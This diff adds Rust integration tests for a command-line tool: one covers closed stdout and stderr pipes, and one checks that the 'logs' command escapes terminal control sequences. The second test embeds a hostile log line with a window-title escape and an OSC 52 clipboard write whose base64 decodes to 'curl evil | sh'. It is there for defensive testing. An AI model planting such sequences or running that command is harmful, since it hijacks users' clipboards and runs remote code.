@@ -519,6 +519,88 @@ fn sigint_mid_stream_exits_130_and_saves_the_session() {
     assert!(last.contains("canceled"), "{last}");
 }
 
+/// A pipe whose reading end is already closed: writing to it fails with EPIPE.
+fn closed_pipe() -> std::process::Stdio {
+    let (reader, writer) = std::io::pipe().unwrap();
+    drop(reader);
+    writer.into()
+}
+
+/// The sessions of `env`, as `sessions list --json` shows them.
+fn sessions(env: &TestEnv) -> Vec<Value> {
+    let list = env.run(&["sessions", "list", "--json"], None);
+    list.assert_success();
+    serde_json::from_str::<Value>(&list.stdout)
+        .unwrap()
+        .as_array()
+        .cloned()
+        .unwrap_or_default()
+}
+
+#[test]
+fn a_closed_stderr_or_stdout_never_aborts_and_leaves_no_empty_session() {
+    use std::process::Stdio;
+    let server = FakeServer::with_script(vec![Reply::text("still answered")]);
+    let env = env_with(&server, Dialect::OpenAi);
+    // Debug output to a closed stderr (`crush run -v hi 2>&1 | head -1` once the reader left).
+    let mut cmd = env.crush();
+    cmd.args(["run", "-v", "hi"])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(closed_pipe());
+    let mut child = cmd.spawn().unwrap();
+    let out = crate::support::env::collect(child.stdout.take().unwrap());
+    let code = crate::support::env::wait_exit(&mut child, "crush -v did not end", String::new);
+    assert_eq!(code, 0, "a closed stderr is not fatal");
+    std::thread::sleep(std::time::Duration::from_millis(100));
+    assert_eq!(
+        String::from_utf8_lossy(&out.lock().unwrap()),
+        "still answered\n"
+    );
+    let list = sessions(&env);
+    assert_eq!(list.len(), 1, "{list:?}");
+    assert_ne!(list[0]["message_count"], 0, "{list:?}");
+
+    // A closed stdout ends the run quietly at its first write (the session event), and the
+    // session it had just created, still empty, is not left behind.
+    let mut cmd = env.crush();
+    cmd.args(["run", "-v", "--json", "again"])
+        .stdin(Stdio::null())
+        .stdout(closed_pipe())
+        .stderr(closed_pipe());
+    let mut child = cmd.spawn().unwrap();
+    let code = crate::support::env::wait_exit(&mut child, "crush did not end", String::new);
+    assert_eq!(code, 0, "a closed stdout exits quietly with 0");
+    assert_eq!(sessions(&env).len(), 1, "an empty session was left");
+}
+
+#[test]
+fn logs_on_a_terminal_show_escape_sequences_instead_of_sending_them() {
+    // A repository can ship its own .crush/logs/crush.log: a window title (OSC 0) and a
+    // clipboard write (OSC 52) in a logged server error.
+    let env = TestEnv::new();
+    let attack = "HTTP 500: \x1b]0;owned\x07 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 end";
+    let line = json!({"time": "2026-11-30T09:06:47Z", "level": "WARN", "msg": attack});
+    env.write_project_file(".crush/logs/crush.log", &format!("{line}\n"));
+    let out = env.run_on_terminal(&["logs"]);
+    out.assert_success();
+    assert!(
+        !out.stdout.contains('\x1b') && !out.stdout.contains('\x07'),
+        "{:?}",
+        out.stdout
+    );
+    assert!(
+        out.stdout
+            .contains("HTTP 500: ^[]0;owned^G ^[]52;c;Y3VybCBldmlsIHwgc2g=^G end"),
+        "{:?}",
+        out.stdout
+    );
+    // Piped, the log is the log.
+    let piped = env.run(&["logs"], None);
+    piped.assert_success();
+    assert!(piped.stdout.contains(attack), "{:?}", piped.stdout);
+}
+
 #[test]
 fn logs_and_projects_commands() {
     let server = FakeServer::with_script(vec![
